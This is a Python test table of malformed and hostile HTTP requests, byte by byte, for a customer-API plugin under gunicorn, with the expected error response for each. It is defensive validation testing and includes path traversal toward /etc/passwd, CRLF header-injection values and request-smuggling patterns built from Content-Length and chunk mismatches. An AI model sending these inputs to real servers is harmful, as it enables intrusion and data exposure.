"""Bad requests, and requests that only look bad, byte by byte, in one table.

A row has the bytes of a request and the expected response, which is a problem without its id. Every
request contains the word `canary`, if only in its headers. No response and no log line may contain
the word. gunicorn itself refuses bytes that are not HTTP, with a status of its own.
"""

from __future__ import annotations

import json
from typing import NamedTuple

from werkzeug.http import HTTP_STATUS_CODES

from ..conftest import PREFIX, REQUEST_ID
from .webhook_events import SIGNATURE, event_of, signature_of

# The program that responds.
PLUGIN = "the plugin"
HOST = "the app that it is mounted in"
GUNICORN = "gunicorn"


class Gets(NamedTuple):
    """An expected response. A response without a title is no problem."""

    status: int
    slug: str = ""
    title: str = ""
    detail: str = ""
    errors: tuple[tuple[str, str], ...] = ()  # pointer, keyword
    write: bool = False  # the problem of a write has `executed: no`
    allow: str = ""
    body: bool = True
    by: str = PLUGIN
    origin: str = "request"


class Row(NamedTuple):
    """The bytes sent over a connection, with the expected responses and calls in order."""

    name: str
    sent: bytes
    gets: tuple[Gets, ...]
    calls: tuple[str, ...] = ()


GOOD = Gets(200)
NO_BODY = Gets(200, body=False)
CONTINUE = Gets(100, body=False, by=GUNICORN)
OTHERWISE = Gets(404, by=HOST)  # outside of the mount
INVALID = Gets(
    400,
    "invalid-request",
    "The request does not fit the contract",
    "See errors for the places that do not fit.",
)
TOO_LARGE = Gets(
    413,
    "body-too-large",
    "The request's body is too large",
    "Send a body of at most 262144 bytes.",
)
MEDIA_TYPE = Gets(
    415,
    "unsupported-media-type",
    "The request's body is not JSON",
    "Send the body as application/json in UTF-8, without a Content-Encoding.",
)
NOT_FOUND = Gets(
    404,
    "not-found",
    "Not Found",
    "Nothing is at this path. The contract at openapi.json lists the paths.",
)
NOT_ALLOWED = Gets(
    405,
    "method-not-allowed",
    "Method Not Allowed",
    "The header Allow lists the methods of this path.",
)
NOT_TAKEN = "The server received a request that is not valid HTTP."
BAD_REQUEST = Gets(400, "bad-request", "Bad Request", "The status of the response is 400.")
NO_CUSTOMER = Gets(
    404, "customer-not-found", "No such customer", "The store has no customer with this id."
)._replace(origin="ecwid")


def invalid(detail: str) -> Gets:
    return INVALID._replace(detail=detail)


def broken(*errors: str) -> Gets:
    """Return the pairs of pointer and keyword for each `/pointer keyword`."""
    places = (error.partition(" ") for error in errors)
    return INVALID._replace(errors=tuple((pointer, keyword) for pointer, _, keyword in places))


def by_gunicorn(status: int) -> Gets:
    phrase = HTTP_STATUS_CODES[status]
    slug = phrase.lower().replace(" ", "-")
    origin = "request" if status < 500 else "service"
    return Gets(status, slug, phrase, NOT_TAKEN, by=GUNICORN, origin=origin)


NOT_JSON = invalid("The body is not JSON in UTF-8.")
TWICE = invalid("The body names a member twice.")
NOT_FINITE = invalid("The body has NaN or Infinity, which are not JSON.")
TOO_GREAT = invalid("The body has a number beyond 1.7976931348623157e+308.")
BEYOND = invalid("The body has an integer beyond 2^53 - 1, which is 9007199254740991.")
TOO_DEEP = invalid("The body is nested deeper than 32 levels.")
TOO_MANY = invalid("The body has more than 1,000 members.")
NO_TEXT = invalid("The body has a text with a NUL or half a surrogate pair.")
NOT_READ = invalid("The body could not be read.")


# ---------------------------------------------------------------------------------------------
# Requests, byte by byte

LIMIT = 262_144  # ECWID_MAX_BODY_BYTES
ID = 172890169  # a customer of the sandbox
ONE = f"GET /customers/{ID}"  # the call for this customer
JSON = b"Content-Type: application/json"
CHUNKED = b"Transfer-Encoding: chunked"
CLOSE = b"Connection: close"
CANARIES = (
    b"Host: canary.example",
    b"User-Agent: canary",
    b"Cookie: canary=canary",
    b"Authorization: Bearer canary",
    b"Referer: http://canary.example/canary",
)

Text = str | bytes


def wire(text: Text) -> bytes:
    return text.encode() if isinstance(text, str) else text


def lines(*parts: Text, body: Text = b"") -> bytes:
    return b"".join(wire(part) + b"\r\n" for part in (*parts, b"")) + wire(body)


def request(method: str, path: Text, *headers: Text, body: Text = b"") -> bytes:
    """Return a request below the mount."""
    first = wire(method) + b" " + wire(PREFIX) + wire(path) + b" HTTP/1.1"
    return lines(first, *CANARIES, *headers, body=body)


def get(path: Text, *headers: Text) -> bytes:
    return request("GET", path, *headers)


def length(body: Text) -> bytes:
    return b"Content-Length: %d" % len(wire(body))


def post(path: Text, body: Text, *headers: Text) -> bytes:
    """Return a request with a JSON body and its true length."""
    return request("POST", path, JSON, length(body), *headers, body=body)


def chunks(*parts: Text) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(wire(part)), wire(part)) for part in (*parts, b""))


def stream(body: Text, *headers: Text) -> bytes:
    """Return a creation with these chunks as its body."""
    return request("POST", "/add_customer", JSON, CHUNKED, *headers, body=body)


def creation(email: str, **more: object) -> str:
    return json.dumps({"email": email, **more})


NEW = creation("canary@example.com")
SMUGGLED = post("/add_customer", creation("smuggled.canary@example.com"))


def nested(depth: int) -> str:
    return '{"billingPerson": ' * depth + '"canary"' + "}" * depth


def named(count: int) -> str:
    return "{" + ",".join(f'"canary{number}": 1' for number in range(count)) + "}"


def filled(size: int) -> str:
    """Return a creation of this size with an unknown member."""
    start = '{"email": "canary@example.com", "canary": "'
    return start + "x" * (size - len(start) - 2) + '"}'


# ---------------------------------------------------------------------------------------------
# Rows


def row(name: str, sent: bytes, *gets: Gets, calls: tuple[str, ...] = ()) -> Row:
    return Row(name, sent, gets, calls)


def write(name: str, sent: bytes, *gets: Gets, calls: tuple[str, ...] = ()) -> Row:
    """Return a row for a write, whose problem has `executed: no`."""
    told = (each._replace(write=each.by == PLUGIN and bool(each.slug)) for each in gets)
    return Row(name, sent, tuple(told), calls)


def body(name: str, sent: Text, gets: Gets) -> tuple[Row, ...]:
    """Return rows with the same body for a creation and an update."""
    return (
        write(f"add: {name}", post("/add_customer", sent), gets),
        write(f"update: {name}", post(f"/update_customer/{ID}", sent), gets),
    )


def media(name: str, *headers: Text) -> tuple[Row, ...]:
    """Return rows with a valid body and these headers about its media type."""
    told = (*headers, length(NEW))
    return tuple(
        write(f"{name}, to {path}", request("POST", path, *told, body=NEW), MEDIA_TYPE)
        for path in ("/add_customer", f"/update_customer/{ID}")
    )


def query(text: Text, *errors: str) -> Row:
    """Return a row with a query of `list_customers`, which is also the row's name."""
    sent = get(b"/customers?keyword=canary&" + wire(text))
    return row(f"?{wire(text)[:50].decode('latin-1')}", sent, broken(*errors))


def customer_id(name: str, text: Text, keyword: str) -> tuple[Row, ...]:
    """Return rows with an invalid id for each of the three operations that take an id."""
    gets = broken(f"/path/customer_id {keyword}")
    return (
        row(f"get: id {name}", get(b"/customer/" + wire(text)), gets),
        write(f"update: id {name}", post(b"/update_customer/" + wire(text), "{}"), gets),
        write(f"delete: id {name}", request("POST", b"/delete_customer/" + wire(text)), gets),
    )


def path(target: str, gets: Gets = NOT_FOUND) -> Row:
    """Return a row with a path below the mount, which is also the row's name."""
    return row(target, get(target), gets)


def methods(target: str, allow: str, names: str) -> tuple[Row, ...]:
    """Return rows with methods that the path does not accept."""
    gets = NOT_ALLOWED._replace(allow=allow)
    return tuple(
        row(f"{name} {target}", request(name, target), gets._replace(body=name != "HEAD"))
        for name in names.split()
    )


def member(text: str, *errors: str) -> Row:
    """Return a row for a creation with one more member."""
    sent = post("/add_customer", '{"email": "canary@example.com", ' + text + "}")
    return write(f"member {text[:50]}", sent, broken(*errors))


def unknown(name: str, parent: str = "") -> Row:
    """Return a row for a creation with an unknown member."""
    text = f'"{name}": "canary"'
    holder = parent.lstrip("/")
    text = f'"{holder}": {{{text}}}' if holder else text
    return member(text, f"{parent} additionalProperties")


def email(name: str, text: str, keyword: str) -> tuple[Row, ...]:
    """Return rows with an invalid e-mail."""
    return body(f"e-mail {name}", creation(text), broken(f"/email {keyword}"))


# fmt: off
BAD_REQUESTS: list[Row] = [
    # malformed JSON, BOM, control characters, invalid UTF-8, `null`, array or scalar body, empty
    *body("empty",                          "", NOT_JSON),
    *body("blank",                          " \r\n\t", NOT_JSON),
    *body("cut in an object",               '{"email": "canary@example.com"', NOT_JSON),
    *body("cut in a text",                  '{"email": "canary', NOT_JSON),
    *body("cut in an escape",               r'{"email": "canary\u00', NOT_JSON),
    *body("an opened brace",                "{", NOT_JSON),
    *body("no JSON at all",                 "canary", NOT_JSON),
    *body("a form",                         "email=canary%40example.com", NOT_JSON),
    *body("XML",                            "<email>canary@example.com</email>", NOT_JSON),
    *body("single quotes",                  "{'email': 'canary@example.com'}", NOT_JSON),
    *body("a name without quotes",          '{email: "canary@example.com"}', NOT_JSON),
    *body("a comma at the end",             '{"email": "canary@example.com",}', NOT_JSON),
    *body("two commas",                     '{"lang": "canary",, "taxId": "x"}', NOT_JSON),
    *body("a comma in an array",            '{"contacts": ["canary",]}', NOT_JSON),
    *body("a colon missing",                '{"email" "canary@example.com"}', NOT_JSON),
    *body("a comment behind",               '{"email": "canary@example.com"} // x', NOT_JSON),
    *body("a comment in front",             '/* x */ {"email": "canary@example.com"}', NOT_JSON),
    *body("two documents",                  NEW + NEW, NOT_JSON),
    *body("lines of JSON",                  NEW + "\n" + NEW, NOT_JSON),
    *body("a NUL behind",                   NEW + "\0", NOT_JSON),
    *body("a form feed for a blank",        '{\f"email": "canary@example.com"}', NOT_JSON),
    *body("a no-break space for a blank",   '{\xa0"email": "canary@example.com"}', NOT_JSON),
    *body("True for true",                  '{"taxId": "canary", "taxExempt": True}', NOT_JSON),
    *body("undefined",                      '{"lang": "canary", "taxExempt": undefined}', NOT_JSON),
    *body("an octal number",                '{"taxId": "canary", "customerGroupId": 01}', NOT_JSON),
    *body("a hexadecimal number",           '{"lang": "canary", "customerGroupId": 0x1}', NOT_JSON),
    *body("a plus in front of a number",    '{"taxId": "canary", "customerGroupId": +1}', NOT_JSON),
    *body("a number that ends in a dot",    '{"taxId": "canary", "customerGroupId": 1.}', NOT_JSON),
    *body("an escape that is none",         r'{"email": "\x41canary@example.com"}', NOT_JSON),
    *body("a BOM",                          "\ufeff" + NEW, NOT_JSON),
    *body("UTF-16",                         NEW.encode("utf-16"), NOT_JSON),
    *body("UTF-16 without a BOM",           NEW.encode("utf-16-le"), NOT_JSON),
    *body("UTF-32",                         NEW.encode("utf-32"), NOT_JSON),
    *body("latin-1",                        '{"taxId": "canary é"}'.encode("latin-1"), NOT_JSON),
    *body("UTF-8 cut in a character",       b'{"taxId": "canary\xc3"}', NOT_JSON),
    *body("UTF-8, overlong",                b'{"taxId": "canary\xc0\xaf"}', NOT_JSON),
    *body("UTF-8 of half a pair",           b'{"taxId": "canary\xed\xa0\x80"}', NOT_JSON),
    *body("UTF-8 beyond Unicode",           b'{"taxId": "canary\xf5\x80\x80\x80"}', NOT_JSON),
    *body("a byte ff",                      b'{"taxId": "canary\xff"}', NOT_JSON),
    *body("a NUL in a text",                '{"taxId": "canary\0"}', NOT_JSON),
    *body("a control character in a text",  '{"taxId": "canary\x01"}', NOT_JSON),
    *body("a line feed in a text",          '{"taxId": "canary\n"}', NOT_JSON),
    *body("a tab in a text",                '{"taxId": "canary\t"}', NOT_JSON),
    *body("a line feed in a name",          '{"canary\n": 1}', NOT_JSON),
    *body("gzip, and not said so",          b"\x1f\x8b\x08\x00canary", NOT_JSON),
    *body("null",                           "null", broken(" type")),
    *body("true",                           "true", broken(" type")),
    *body("a number",                       "172890169", broken(" type")),
    *body("a text",                         '"canary@example.com"', broken(" type")),
    *body("an array",                       "[]", broken(" type")),
    *body("an array of one",                f"[{NEW}]", broken(" type")),

    # duplicate keys at any depth, NaN, Infinity, 1e999, integers beyond 2^53-1, depth > 32,
    # > 1,000 keys, NUL or lone surrogates in strings
    *body("a name twice",                   '{"taxId": "canary", "taxId": "x"}', TWICE),
    *body("a name twice, alike",            '{"taxId": "canary", "taxId": "canary"}', TWICE),
    *body("a name twice, once escaped",     r'{"taxId": "canary", "t\u0061xId": "x"}', TWICE),
    *body("an empty name twice",            '{"": "canary", "": "canary"}', TWICE),
    *body("a name nobody knows twice",      '{"canary": 1, "canary": 2}', TWICE),
    *body("a name twice, further down",     '{"billingPerson": {"x": "canary", "x": 1}}', TWICE),
    *body("a name twice, in an array",      '{"contacts": [{"note": "canary", "note": 1}]}', TWICE),
    *body("a name twice, ten deep",         nested(10).replace('"canary"', '{"a":1,"a":2}'), TWICE),
    *body("a name twice, in an array body", '[{"canary": 1, "canary": 2}]', TWICE),
    *body("NaN",                            '{"taxId": "canary", "x": NaN}', NOT_FINITE),
    *body("Infinity",                       '{"taxId": "canary", "x": Infinity}', NOT_FINITE),
    *body("-Infinity",                      '{"taxId": "canary", "x": [-Infinity]}', NOT_FINITE),
    *body("NaN alone",                      "NaN", NOT_FINITE),
    *body("1e999",                          '{"taxId": "canary", "x": 1e999}', TOO_GREAT),
    *body("-1e999",                         '{"taxId": "canary", "x": -1e999}', TOO_GREAT),
    *body("400 digits, with a dot",         '{"x": "canary", "y": %s.0}' % ("9" * 400), TOO_GREAT),
    *body("2^53",                           '{"taxId": "canary", "x": 9007199254740992}', BEYOND),
    *body("-2^53",                          '{"taxId": "canary", "x": -9007199254740992}', BEYOND),
    *body("2^64",                           '{"x": "canary", "y": 18446744073709551616}', BEYOND),
    *body("a number of 100,000 digits",     '{"x": "canary", "y": %s}' % ("9" * 100_000), BEYOND),
    *body("33 deep",                        nested(33), TOO_DEEP),
    *body("33 deep, arrays",                "[" * 33 + '"canary"' + "]" * 33, TOO_DEEP),
    *body("900 deep",                       nested(900), TOO_DEEP),
    *body("100,000 deep, and never closed", "[" * 100_000, TOO_DEEP),
    *body("1,001 names",                    named(1_001), TOO_MANY),
    *body("1,001 names, in two objects",    f"[{named(501)}, {named(500)}]", TOO_MANY),
    *body("a NUL, escaped",                 r'{"taxId": "canary\u0000"}', NO_TEXT),
    *body("a NUL in a name",                r'{"canary\u0000": 1}', NO_TEXT),
    *body("half a surrogate pair",          r'{"taxId": "canary\ud83d"}', NO_TEXT),
    *body("the other half",                 r'{"taxId": "\ude00canary"}', NO_TEXT),
    *body("both halves the wrong way",      r'{"taxId": "canary\ude00\ud83d"}', NO_TEXT),
    *body("half a surrogate pair in a name", r'{"billingPerson": {"canary\ud83d": 1}}', NO_TEXT),

    # no or other Content-Type, charset other than utf-8, Content-Encoding on a request
    *media("no Content-Type"),
    *media("an empty Content-Type",         "Content-Type:"),
    *media("a form",                        "Content-Type: application/x-www-form-urlencoded"),
    *media("a form in parts",               "Content-Type: multipart/form-data; boundary=canary"),
    *media("text",                          "Content-Type: text/plain"),
    *media("text/json",                     "Content-Type: text/json"),
    *media("XML",                           "Content-Type: application/xml"),
    *media("JSON:API",                      "Content-Type: application/vnd.api+json"),
    *media("JSON patch",                    "Content-Type: application/json-patch+json"),
    *media("lines of JSON",                 "Content-Type: application/x-ndjson"),
    *media("a wildcard",                    "Content-Type: */*"),
    *media("nonsense",                      "Content-Type: canary"),
    *media("two in one header",             "Content-Type: application/json, text/canary"),
    *media("latin-1",                       "Content-Type: application/json; charset=iso-8859-1"),
    *media("UTF-16",                        "Content-Type: application/json; charset=utf-16"),
    *media("UTF-7",                         "Content-Type: application/json; charset=utf-7"),
    *media("ASCII",                         "Content-Type: application/json; charset=us-ascii"),
    *media("a charset nobody knows",        "Content-Type: application/json; charset=canary"),
    *media("gzip",                          JSON, "Content-Encoding: gzip"),
    *media("br",                            JSON, "Content-Encoding: br"),
    *media("identity",                      JSON, "Content-Encoding: identity"),
    *media("gzip, gzip",                    JSON, "Content-Encoding: gzip, gzip"),
    *media("an encoding nobody knows",      JSON, "Content-Encoding: canary"),
    write("delete: an encoded body", post(f"/delete_customer/{ID}", "canary",
          "Content-Encoding: gzip"), MEDIA_TYPE),
    row("get: an encoded body", request("GET", f"/customer/{ID}", length("canary"),
        "Content-Encoding: gzip", body="canary"), MEDIA_TYPE),

    # body over the limit, declared or while reading
    *body("a byte over the limit",          filled(LIMIT + 1), TOO_LARGE),
    *body("a megabyte",                     filled(1_000_000), TOO_LARGE),
    *body("at the limit, and no good",      filled(LIMIT), broken(" additionalProperties")),
    write("over the limit, declared alone", request("POST", "/add_customer", JSON,
          f"Content-Length: {LIMIT + 2}"), TOO_LARGE),
    write("a terabyte, declared alone", request("POST", "/add_customer", JSON,
          "Content-Length: 1000000000000"), TOO_LARGE),
    write("a length of 4,000 digits", request("POST", "/add_customer", JSON,
          "Content-Length: " + "9" * 4_000), TOO_LARGE),
    write("over the limit, in a chunk", stream(chunks(filled(LIMIT + 1))), TOO_LARGE),
    write("over the limit, in small chunks",
          stream(chunks(*["canary" * 100] * 500)), TOO_LARGE),
    write("over the limit, in a chunk that never ends", stream("ffffffff\r\n" + "canary" * 50_000),
          TOO_LARGE),
    write("over the limit, with a good beginning", stream(chunks(NEW, " " * LIMIT)), TOO_LARGE),
    write("delete: over the limit", post(f"/delete_customer/{ID}", filled(LIMIT + 1)), TOO_LARGE),
    row("get: over the limit", request("GET", f"/customer/{ID}", length(filled(LIMIT + 1)),
        body=filled(LIMIT + 1)), TOO_LARGE),
    row("list: over the limit, declared alone", get("/customers", "Content-Length: 9999999"),
        TOO_LARGE),

    # a body that is shorter or longer than its Content-Length
    write("a length that cuts the body", request("POST", "/add_customer", JSON,
          "Content-Length: 5", body=NEW), NOT_JSON),
    write("a length that cuts the body, and lines behind", request("POST", "/add_customer", JSON,
          "Content-Length: 5", body=f"{NEW}\r\n\r\n"), NOT_JSON, by_gunicorn(400)),
    write("a length of 0, and a body behind", request("POST", "/add_customer", JSON,
          "Content-Length: 0", body=f"{NEW}\r\n\r\n"), NOT_JSON, by_gunicorn(400)),

    write("a length that is more than the body", request("POST", "/add_customer", JSON,
          "Content-Length: 500", body=NEW), NOT_READ),
    write("a length, and no body", request("POST", "/add_customer", JSON, "Content-Length: 500"),
          NOT_READ),
    write("update: a length that is more than the body", request("POST", f"/update_customer/{ID}",
          JSON, "Content-Length: 3", body="{}"), NOT_READ),
    write("delete: a length, and no body", request("POST", f"/delete_customer/{ID}",
          "Content-Length: 5"), NOT_READ),
    row("get: a length, and no body", request("GET", f"/customer/{ID}", "Content-Length: 5"),
        NOT_READ),

    # invalid chunks
    *(write(f"chunk {name}", stream(sent), NOT_READ) for name, sent in (
        ("that never comes",                ""),
        ("that is cut",                     "9999\r\n{canary"),
        ("without one that is the last",    "2\r\n{}\r\n"),
        ("that is the last, and cut",       "2\r\n{}\r\n0\r\n"),
        ("with a size that is no number",   "canary\r\n{}\r\n0\r\n\r\n"),
        ("with a size below zero",          "-1\r\n{}\r\n0\r\n\r\n"),
        ("with a plus in its size",         "+2\r\n{}\r\n0\r\n\r\n"),
        ("with 0x in its size",             "0x2\r\n{}\r\n0\r\n\r\n"),
        ("with an underscore in its size",  "0_2\r\n{}\r\n0\r\n\r\n"),
        ("with a blank in front of its size", " 2\r\n{}\r\n0\r\n\r\n"),
        ("without a size",                  "\r\n{}\r\n0\r\n\r\n"),
        ("longer than its size",            "2\r\n{canary}\r\n0\r\n\r\n"),
        ("without its end of line",         "2\r\n{}0\r\n\r\n"),
        ("with half an end of line",        "2\r\n{}\n0\r\n\r\n"),
        ("with a bad extension",            "2;\x01canary\r\n{}\r\n0\r\n\r\n"),
        ("with a line feed in its extension", "2;canary\nx\r\n{}\r\n0\r\n\r\n"),
        ("with an endless size line",       "0" * 9_000),
        ("that is the last, and a bad trailer", "2\r\n{}\r\n0\r\ncanary\r\n\r\n"),
        ("that is the last, and a length behind", "2\r\n{}\r\n0\r\nContent-Length: 5\r\n\r\n"),
    )),

    # unknown query parameter, a parameter given twice, `limit` 0, 101, -1, abc, 1e2, 1_0, Arabic
    # digits or +5. Negative offset, invalid UTF-8, NUL or CR LF in a query.
    query("canary=canary",                  "/query additionalProperties"),
    query("canary",                         "/query additionalProperties"),
    query("=canary",                        "/query additionalProperties"),
    query("Limit=5",                        "/query additionalProperties"),
    query("limit[]=5",                      "/query additionalProperties"),
    query("token=canary",                   "/query additionalProperties"),
    query("_method=DELETE",                 "/query additionalProperties"),
    query("self=1&client=2&request_id=3&body=4", *["/query additionalProperties"] * 4),
    query("__class__=canary",               "/query additionalProperties"),
    query("%00=canary",                     "/query additionalProperties"),
    query("customer_id=1",                  "/query additionalProperties"),
    query("keyword=canary",                 "/query/keyword uniqueItems"),
    query("limit=5&limit=5",                "/query/limit uniqueItems"),
    query("limit=5&%6cimit=6",              "/query/limit uniqueItems"),
    query("limit=5&limit=canary",           "/query/limit uniqueItems"),
    query("limit=0",                        "/query/limit minimum"),
    query("limit=101",                      "/query/limit maximum"),
    query("limit=-1",                       "/query/limit minimum"),
    query("limit=abc",                      "/query/limit type"),
    query("limit=1e2",                      "/query/limit type"),
    query("limit=1_0",                      "/query/limit type"),
    query("limit=%D9%A1%D9%A0",             "/query/limit type"),
    query("limit=%EF%BC%95",                "/query/limit type"),
    query("limit=%2B5",                     "/query/limit type"),
    query("limit=+5",                       "/query/limit type"),
    query("limit=5+",                       "/query/limit type"),
    query("limit=5%0A",                     "/query/limit type"),
    query("limit=%005",                     "/query/limit type"),
    query("limit=007",                      "/query/limit type"),
    query("limit=-0",                       "/query/limit minimum"),
    query("limit=--5",                      "/query/limit type"),
    query("limit=0x5",                      "/query/limit type"),
    query("limit=5.0",                      "/query/limit type"),
    query("limit=5,000",                    "/query/limit type"),
    query("limit=5;offset=1",               "/query/limit type"),
    query("limit=",                         "/query/limit type"),
    query("limit",                          "/query/limit type"),
    query("limit=null",                     "/query/limit type"),
    query("limit=true",                     "/query/limit type"),
    query("limit=NaN",                      "/query/limit type"),
    query("limit=9007199254740993",         "/query/limit maximum"),
    query("limit=" + "9" * 4_000,           "/query/limit type"),
    query("offset=-1",                      "/query/offset minimum"),
    query("offset=9007199254740992",        "/query/offset maximum"),
    query("offset=canary",                  "/query/offset type"),
    query("minOrderCount=1.5",              "/query/minOrderCount type"),
    query("minSalesValue=Infinity",         "/query/minSalesValue type"),
    query("minSalesValue=1e999",            "/query/minSalesValue type"),
    query("acceptMarketing=yes",            "/query/acceptMarketing type"),
    query("acceptMarketing=TRUE",           "/query/acceptMarketing type"),
    query("acceptMarketing=01",             "/query/acceptMarketing type"),
    query("sortBy=canary",                  "/query/sortBy enum"),
    query("b2b_b2c=canary",                 "/query/b2b_b2c enum"),
    query("countryCodes=canary",            "/query/countryCodes pattern"),
    query("customerGroupIds=1,canary",      "/query/customerGroupIds pattern"),
    query("createdFrom=canary",             "/query/createdFrom pattern"),
    query("createdFrom=2023-02-01%0A",      "/query/createdFrom pattern"),
    query("responseFields=canary(",         "/query/responseFields pattern"),
    query("name=" + "canary" * 167,         "/query/name maxLength"),
    query("name=canary%00",                 "/query/name pattern"),
    query("name=canary%0D%0AX:%20canary",   "/query/name pattern"),
    query("name=canary%0A",                 "/query/name pattern"),
    query("email=%0Dcanary",                "/query/email pattern"),
    query("limit=0&offset=-1&sortBy=canary", "/query/limit minimum", "/query/offset minimum",
          "/query/sortBy enum"),
    query("name=canary%ff",                 "/query type"),
    query("name=canary%c3",                 "/query type"),
    query("name=canary%c0%af",              "/query type"),
    query("name=canary%ed%a0%80",           "/query type"),
    query("name=canary%f5%80%80%80",        "/query type"),
    query("%ff=canary",                     "/query type"),
    row("get: an unknown parameter", get(f"/customer/{ID}?canary=canary"),
        broken("/query additionalProperties")),
    row("get: a parameter of the list", get(f"/customer/{ID}?limit=5"),
        broken("/query additionalProperties")),
    row("get: fields that are none", get(f"/customer/{ID}?responseFields=canary("),
        broken("/query/responseFields pattern")),
    write("add: an unknown parameter", post("/add_customer?canary=canary", NEW),
          broken("/query additionalProperties")),
    write("update: an unknown parameter", post(f"/update_customer/{ID}?canary=canary", "{}"),
          broken("/query additionalProperties")),
    write("delete: an unknown parameter", request("POST", f"/delete_customer/{ID}?canary"),
          broken("/query additionalProperties")),
    write("delete: invalid UTF-8 in a query", request("POST", f"/delete_customer/{ID}?canary%ff"),
          broken("/query type")),

    # customer id 0, -1, +1, 01, 1.0, 1e3, 1_0, > 2^53-1, 4,000 digits
    *customer_id("0",                       "0", "minimum"),
    *customer_id("-0",                      "-0", "minimum"),
    *customer_id("-1",                      "-1", "minimum"),
    *customer_id("+1",                      "+1", "type"),
    *customer_id("+1, encoded",             "%2B1", "type"),
    *customer_id("01",                      "01", "type"),
    *customer_id("1.0",                     "1.0", "type"),
    *customer_id("1e3",                     "1e3", "type"),
    *customer_id("1_0",                     "1_0", "type"),
    *customer_id("0x1",                     "0x1", "type"),
    *customer_id("1,0",                     "1,0", "type"),
    *customer_id("of letters",              "canary", "type"),
    *customer_id("null",                    "null", "type"),
    *customer_id("NaN",                     "NaN", "type"),
    *customer_id("a blank",                 "%20", "type"),
    *customer_id("and a blank",             f"{ID}%20", "type"),
    *customer_id("and a line feed",         f"{ID}%0A", "type"),
    *customer_id("in Arabic digits",        "%D9%A1", "type"),
    *customer_id("in fullwidth digits",     "%EF%BC%91", "type"),
    *customer_id("2^53",                    "9007199254740992", "maximum"),
    *customer_id("2^64",                    "18446744073709551616", "type"),
    *customer_id("of 4,000 digits",         "9" * 4_000, "type"),
    *customer_id("and another",             f"{ID},{ID}", "type"),

    # `%2F`, `..%2f`, `%0d%0a`, `;x`, `{}`, `//`, `%00`, `%ff` in the path
    path("/customer/{customer_id}",         broken("/path/customer_id type")),
    path("/customer/%7Bcustomer_id%7D",     broken("/path/customer_id type")),
    path("/customer/<customer_id>",         broken("/path/customer_id type")),
    path(f"/customer/{ID};canary",          broken("/path/customer_id type")),
    path(f"/customer/{ID};canary=1",        broken("/path/customer_id type")),
    path(f"/customer/{ID}%3Bcanary",        broken("/path/customer_id type")),
    path(f"/customer/{ID}%3Fcanary",        broken("/path/customer_id type")),
    path(f"/customer/{ID}%23canary",        broken("/path/customer_id type")),
    path(f"/customer/{ID}%00",              broken("/path/customer_id type")),
    path(f"/customer/{ID}%00.json",         broken("/path/customer_id type")),
    path(f"/customer/{ID}%ff",              broken("/path/customer_id type")),
    path(f"/customer/{ID}%0d%0aX:%20canary", broken("/path/customer_id type")),
    path(f"/customer/{ID}%5ccanary",        broken("/path/customer_id type")),
    path(f"/customer/{ID}\\canary",         broken("/path/customer_id type")),
    path("/customer/%252f",                 broken("/path/customer_id type")),
    path("/customer/..",                    broken("/path/customer_id type")),
    path("/customer/%2e%2e",                broken("/path/customer_id type")),
    path("/customer/*",                     broken("/path/customer_id type")),
    path("/customer/%",                     broken("/path/customer_id type")),
    path("/customer/%zz",                   broken("/path/customer_id type")),
    path("/customer/..%2f"),
    path("/customer/..%2F..%2Fcustomers"),
    path("/customer/..%5c..%2f"),
    path(f"/customer/{ID}%2Fcanary"),
    path(f"/customer%2F{ID}"),
    path(f"/customer%2f{ID}?responseFields=canary("),
    path(f"/customer/{ID}%2F"),
    path("%2Fcustomers"),
    path("%2fcustomers?name=canary"),
    path(f"/customer/{ID}/"),
    path(f"/customer/{ID}/canary"),
    path(f"/customer//{ID}"),
    path("/customer/"),
    path("/customer"),
    path("/customers/"),
    path(f"/customers/{ID}"),
    path("//customers"),
    path("/customers//"),
    path("/customers;canary"),
    path("/customers%00"),
    path("/customers%ff"),
    path("/customers%20"),
    path("/customers%0d%0aX:%20canary"),
    path("/customers%3fkeyword=canary"),
    path("/Customers"),
    path("/customers.json"),
    path("/./customers"),
    path("/../ecwid/customers"),
    path("/%2e%2e/ecwid/customers"),
    path("/{}"),
    path("/canary"),
    path("/canary/" * 500),
    path("/"),
    path(""),
    path("/add_customer/"),
    path("/update_customer"),
    path("/delete_customer/"),
    path("/ui/..%2f..%2fetc%2fpasswd"),
    path("/ui/canary.js"),
    path("/ui/%2e%2e/%2e%2e/setup.cfg"),
    path("/openapi.json/canary"),
    *(write(f"{target[1:7]}: an encoded slash", post(f"{target}%2F{ID}", "{}"), NOT_FOUND)
      for target in ("/update_customer", "/delete_customer")),
    row("an encoded slash in the mount", get(f"/customer/{ID}").replace(b"/json", b"%2Fjson", 1),
        NOT_FOUND),
    row("two slashes in front of the mount", get(f"/customer/{ID}").replace(b"/api", b"//api", 1),
        NOT_FOUND),
    row("three slashes in front of the mount", get("/customers").replace(b"/api", b"///api", 1),
        NOT_FOUND),
    row("two slashes behind a host", get("/customers").replace(b"/api", b"http://canary//api", 1),
        NOT_FOUND),
    row("OPTIONS, and an encoded slash", request("OPTIONS", f"/customer%2F{ID}"), NOT_FOUND),
    row("POST to no path", post("/canary", NEW), NOT_FOUND),
    row("OPTIONS of no path", request("OPTIONS", "/canary"), NOT_FOUND),
    row("HEAD of no path", request("HEAD", "/canary"), NOT_FOUND._replace(body=False)),
    row("outside of the mount", lines("GET /canary?canary HTTP/1.1", *CANARIES), OTHERWISE),
    row("two slashes in the mount", get("/customers?name=canary").replace(b"/json", b"//json", 1),
        OTHERWISE),
    row("two slashes in a path of the app", lines("GET /canary//canary HTTP/1.1", *CANARIES),
        OTHERWISE),
    row("OPTIONS *", lines("OPTIONS * HTTP/1.1", *CANARIES), OTHERWISE),
    row("the mount in capitals", lines(f"GET {PREFIX.upper()}/customers HTTP/1.1", *CANARIES),
        OTHERWISE),
    row("a path that begins as the mount", lines(f"GET {PREFIX}canary HTTP/1.1", *CANARIES),
        OTHERWISE),

    # wrong method / HEAD / OPTIONS
    *methods("/customers",                  "GET, HEAD, OPTIONS", "POST PUT PATCH DELETE TRACE"),
    *methods(f"/customer/{ID}",             "GET, HEAD, OPTIONS", "POST PUT PATCH DELETE TRACE"),
    *methods("/add_customer",               "OPTIONS, POST", "GET HEAD PUT PATCH DELETE TRACE"),
    *methods(f"/update_customer/{ID}",      "OPTIONS, POST", "GET HEAD PUT PATCH DELETE TRACE"),
    *methods(f"/delete_customer/{ID}",      "OPTIONS, POST", "GET HEAD PUT PATCH DELETE TRACE"),
    *methods("/openapi.json",               "GET, HEAD, OPTIONS", "POST PUT PATCH DELETE TRACE"),
    *methods("/openapi.yaml",               "GET, HEAD, OPTIONS", "POST DELETE"),
